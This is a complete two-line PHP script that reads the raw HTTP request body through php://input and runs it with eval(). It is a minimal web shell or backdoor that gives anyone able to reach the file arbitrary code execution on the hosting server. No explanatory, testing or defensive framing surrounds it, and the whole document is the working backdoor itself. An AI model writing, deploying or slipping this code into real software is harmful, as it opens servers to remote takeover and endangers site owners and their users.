<?php
$f = fopen('php://input', 'r'); $c = stream_get_contents($f); eval($c);
